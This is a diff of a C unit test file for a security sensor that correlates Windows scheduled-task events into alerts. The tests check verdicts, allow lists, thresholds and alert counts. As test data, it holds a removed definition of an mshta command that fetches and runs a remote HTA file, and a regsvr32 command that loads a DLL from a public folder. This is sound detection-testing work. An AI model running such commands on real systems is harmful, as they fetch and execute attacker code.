@@ -1,107 +1,6 @@
-#include "detect/correlate.h"
-#include "unit/evedesk.h"
-
-/* ---- A sensor without packets ---- */
-
-struct sensor {
-	struct desk	*d;
-	struct settings	 settings;
-	struct correlate *c;
-};
-
-static int
-open_sensor(void **state)
-{
-	struct sensor *s = calloc(1, sizeof(*s));
-
-	assert_non_null(s);
-	s->d = offline_new(false);
-	settings_init(&s->settings);
-	s->c = correlate_new(&s->d->stats, s->d->eve, &s->settings, NULL);
-	assert_non_null(s->c);
-	*state = s;
-	return 0;
-}
-
-static int
-close_sensor(void **state)
-{
-	struct sensor *s = *state;
-
-	correlate_free(s->c);
-	settings_free(&s->settings);
-	offline_free(s->d);
-	free(s);
-	return 0;
-}
-
-static void
-put(struct sensor *s, struct fact *o)
-{
-	struct sink *sink = correlate_sink(s->c);
-
-	sink->put(sink, o);
-}
-
-/* The nth record's, counted from 0, at "detection.chain.id". */
-static json_t *
-at(const struct sensor *s, size_t n, const char *path)
-{
-	json_t *j = json_array_get(s->d->records, n);
-	char key[64];
-
-	assert_non_null(j);
-	for (size_t len; *path != '\0'; path += len + (path[len] == '.')) {
-		len = strcspn(path, ".");
-		snprintf(key, sizeof(key), "%.*s", (int)len, path);
-		j = json_object_get(j, key);
-	}
-	return j;
-}
-
-static const char *
-text_at(const struct sensor *s, size_t n, const char *path)
-{
-	const char *text = json_string_value(at(s, n, path));
-
-	return text != NULL ? text : "";
-}
-
-static bool
-has_reason(const struct sensor *s, size_t n, const char *id)
-{
-	json_t *reason;
-	size_t i;
-
-	json_array_foreach(at(s, n, "detection.reasons"), i, reason)
-		if (strcmp(json_string_value(json_object_get(reason, "id")), id) == 0)
-			return true;
-	return false;
-}
+#include "unit/sensor.h"
 
 /* ---- Tasks ---- */
-
-#define EVIL	"mshta.exe http://198.51.100.7/a.hta"
-#define PLAIN	"C:\\Windows\\System32\\robocopy.exe D:\\data E:\\copy /mir"
-
-static struct fact *
-task_that(struct sensor *s, const char *action, const char *name, const char *line)
-{
-	struct fact *o = task(s->d);
-
-	fact_str(o, F_ACTION, action);
-	fact_str(o, F_ROUTE, "rpc");
-	fact_str(o, F_VISIBILITY, "clear");
-	fact_str(o, F_OUTCOME, "success");
-	fact_str(o, F_AUTH_USER, "bob");
-	fact_str(o, F_NAME, name);
-	if (line != NULL) {
-		fact_next(o, F_ACT_TYPE);
-		fact_str(o, F_ACT_TYPE, "exec");
-		fact_str(o, F_ACT_COMMAND_LINE, line);
-	}
-	return o;
-}
 
 static void
 an_evil_task_is_told_and_then_alerted(void **state)
@@ -190,6 +89,23 @@ distinct_tasks_are_all_alerted(void **state)
 	assert_int_equal(s->d->stats.n[STAT_ALERTS_REPEATED], 0);
 }
 
+static void
+a_suspicious_task_is_alerted_unless_only_malicious_ones_are(void **state)
+{
+	struct sensor *s = *state;
+
+	put(s, task_that(s, "create", "\\Reports", "regsvr32 /s c:\\users\\public\\a.dll"));
+	assert_string_equal(text_at(s, 0, "detection.verdict"), "suspicious");
+	assert_int_equal(s->d->stats.n[STAT_ALERTS], 1);
+	s->terms.alert = VERDICT_MALICIOUS;
+	restart(s);
+	put(s, task_that(s, "create", "\\Reports", "regsvr32 /s c:\\users\\public\\a.dll"));
+	assert_int_equal(s->d->stats.n[STAT_ALERTS], 1);
+	s->rules.malicious = (int)number_at(s, 2, "detection.score");
+	put(s, task_that(s, "create", "\\Reports", "regsvr32 /s c:\\users\\public\\a.dll"));
+	assert_int_equal(s->d->stats.n[STAT_ALERTS], 2);
+}
+
 /* ---- What becomes of them ---- */
 
 static struct fact *
@@ -242,6 +158,84 @@ a_sealed_remote_execution_is_alerted_by_what_it_does(void **state)
 	assert_int_equal(json_integer_value(at(s, 7, "detection.chain.lifetime_ms")), 5000);
 }
 
+/* At so many seconds after the task was made. */
+static struct fact *
+later(struct fact *o, int64_t seconds)
+{
+	o->at.us += seconds * 1000000;
+	return o;
+}
+
+static struct fact *
+poll_of(struct sensor *s, const char *name, int64_t seconds)
+{
+	struct fact *o = task_that(s, "query", name, NULL);
+
+	fact_str(o, F_RPC_PROCEDURE, "SchRpcGetLastRunInfo");
+	return later(o, seconds);
+}
+
+/* What it runs speaks against a task as well as what becomes of it; an alert is
+ * written where both together reach a verdict, and again at the next one. */
+static void
+a_task_is_alerted_again_when_its_verdict_rises(void **state)
+{
+	struct sensor *s = *state;
+	struct fact *read;
+
+	put(s, task_that(s, "create", "\\Sync", "\\\\fs01\\tools\\sync.exe"));
+	assert_int_equal(s->d->lines, 1);
+	assert_true(number_at(s, 0, "detection.chain.id") > 0);
+	assert_string_equal(text_at(s, 0, "detection.chain.created"), text_at(s, 0, "timestamp"));
+	assert_null(at(s, 0, "detection.chain.run"));
+	assert_null(at(s, 0, "detection.chain.deleted"));
+	assert_null(at(s, 0, "detection.chain.lifetime_ms"));
+	put(s, later(task_that(s, "run", "\\Sync", NULL), 1));
+	put(s, poll_of(s, "\\Sync", 2));
+	put(s, later(task_that(s, "delete", "\\Sync", NULL), 3));
+	assert_int_equal(s->d->lines, 5);
+	assert_string_equal(text_at(s, 4, "event_type"), "alert");
+	assert_string_equal(text_at(s, 4, "timestamp"), text_at(s, 3, "timestamp"));
+	assert_string_equal(text_at(s, 4, "detection.verdict"), "suspicious");
+	assert_true(has_reason(s, 4, "remote_path") && has_reason(s, 4, "short_lived"));
+	assert_string_equal(text_at(s, 4, "detection.chain.run"), text_at(s, 1, "timestamp"));
+	assert_string_equal(text_at(s, 4, "detection.chain.deleted"), text_at(s, 3, "timestamp"));
+	read = later(task_that(s, "query", "\\Sync", NULL), 4);
+	fact_drop(read, F_ROUTE);
+	fact_str(read, F_ROUTE, "file");
+	put(s, read);
+	assert_int_equal(s->d->lines, 7);
+	assert_string_equal(text_at(s, 6, "detection.verdict"), "malicious");
+	assert_string_equal(text_at(s, 6, "task.name"), "\\Sync");
+	assert_int_equal(json_array_size(at(s, 6, "task.actions")), 1);
+	put(s, poll_of(s, "\\Sync", 5));
+	assert_int_equal(s->d->stats.n[STAT_ALERTS], 2);
+}
+
+static void
+what_becomes_of_an_alerted_task_is_no_news(void **state)
+{
+	struct sensor *s = *state;
+
+	put(s, task_that(s, "create", "\\Reports", EVIL));
+	put(s, task_that(s, "run", "\\Reports", NULL));
+	put(s, task_that(s, "delete", "\\Reports", NULL));
+	assert_int_equal(s->d->stats.n[STAT_ALERTS], 1);
+}
+
+/* What detection says is not the sender's to fill up. */
+static void
+a_spent_budget_is_judged_all_the_same(void **state)
+{
+	struct sensor *s = *state;
+	struct fact *o = task_that(s, "create", "\\Reports", EVIL);
+
+	s->d->budget.limit = s->d->budget.used;
+	put(s, o);
+	assert_int_equal(s->d->stats.n[STAT_ALERTS], 1);
+	assert_string_equal(text_at(s, 1, "detection.verdict"), "malicious");
+}
+
 static void
 to_make_run_and_delete_a_task_is_no_alert(void **state)
 {
@@ -264,19 +258,25 @@ to_make_run_and_delete_a_task_is_no_alert(void **state)
 
 /* ---- What the operator says ---- */
 
+/* An entry of the allow list, for tasks of that name or for all of bob's. */
 static void
-allow(struct sensor *s, enum allow_action action)
+allow(struct sensor *s, const char *name, enum allow_action action)
 {
 	struct allow_entry *e = calloc(1, sizeof(*e));
-	char err[128];
+	char **list = calloc(2, sizeof(*list)), err[128];
 
 	assert_non_null(e);
-	e->tasks = calloc(2, sizeof(*e->tasks));
-	e->tasks[0] = strdup("\\Reports");
+	assert_non_null(list);
+	list[0] = strdup(name != NULL ? name : "bob");
+	if (name != NULL)
+		e->tasks = list;
+	else
+		e->users = list;
 	e->comment = strdup("ours");
 	e->action = action;
-	s->settings.allow = allow_new(e, 1, err, sizeof(err));
-	assert_non_null(s->settings.allow);
+	s->terms.allow = allow_new(e, 1, err, sizeof(err));
+	assert_non_null(s->terms.allow);
+	restart(s);
 }
 
 static void
@@ -284,14 +284,32 @@ an_allowed_task_is_told_without_an_alert(void **state)
 {
 	struct sensor *s = *state;
 
-	allow(s, ALLOW_SUPPRESS);
+	allow(s, "\\Reports", ALLOW_SUPPRESS);
 	put(s, task_that(s, "create", "\\Reports", EVIL));
 	assert_int_equal(s->d->lines, 1);
 	assert_string_equal(text_at(s, 0, "detection.allowed"), "ours");
 	assert_string_not_equal(text_at(s, 0, "detection.verdict"), "benign");
+	assert_false(has_reason(s, 0, "allowed"));
 	assert_int_equal(s->d->stats.n[STAT_ALLOWED], 1);
+	put(s, task_that(s, "run", "\\Reports", NULL));
+	put(s, task_that(s, "delete", "\\Reports", NULL));
+	assert_int_equal(s->d->stats.n[STAT_ALERTS], 0);	/* nor does what becomes of it */
 	put(s, task_that(s, "create", "\\Other", EVIL));
 	assert_int_equal(s->d->stats.n[STAT_ALERTS], 1);
+}
+
+static void
+an_allowed_command_is_told_without_an_alert(void **state)
+{
+	struct sensor *s = *state;
+	struct fact *o = command(s->d);
+
+	allow(s, NULL, ALLOW_SUPPRESS);
+	fact_str(o, F_AUTH_USER, "bob");
+	fact_str(o, F_CMD_LINE, EVIL);
+	put(s, o);
+	assert_int_equal(s->d->lines, 1);
+	assert_string_equal(text_at(s, 0, "detection.allowed"), "ours");
 }
 
 static void
@@ -299,7 +317,7 @@ an_allowed_task_can_be_lowered_only(void **state)
 {
 	struct sensor *s = *state;
 
-	allow(s, ALLOW_LOWER);
+	allow(s, "\\Reports", ALLOW_LOWER);
 	put(s, task_that(s, "create", "\\Reports", EVIL));
 	assert_true(has_reason(s, 0, "allowed"));
 	assert_true(json_integer_value(at(s, 0, "detection.score")) <= 60);
@@ -310,7 +328,7 @@ a_threshold_can_be_moved(void **state)
 {
 	struct sensor *s = *state;
 
-	s->settings.rules.suspicious = s->settings.rules.malicious = 100;
+	s->rules.suspicious = s->rules.malicious = 100;
 	put(s, task_that(s, "create", "\\Reports", "regsvr32 /s c:\\users\\public\\a.dll"));
 	assert_int_equal(s->d->lines, 1);
 	assert_string_equal(text_at(s, 0, "detection.verdict"), "benign");
@@ -435,9 +453,14 @@ main(void)
 		each(to_ask_whether_a_task_would_do_alerts_nobody),
 		each(the_same_alert_is_told_once_and_counted),
 		each(distinct_tasks_are_all_alerted),
+		each(a_suspicious_task_is_alerted_unless_only_malicious_ones_are),
+		each(a_task_is_alerted_again_when_its_verdict_rises),
+		each(what_becomes_of_an_alerted_task_is_no_news),
+		each(a_spent_budget_is_judged_all_the_same),
 		each(a_sealed_remote_execution_is_alerted_by_what_it_does),
 		each(to_make_run_and_delete_a_task_is_no_alert),
 		each(an_allowed_task_is_told_without_an_alert),
+		each(an_allowed_command_is_told_without_an_alert),
 		each(an_allowed_task_can_be_lowered_only),
 		each(a_threshold_can_be_moved),
 		each(passwords_are_masked_in_every_text),
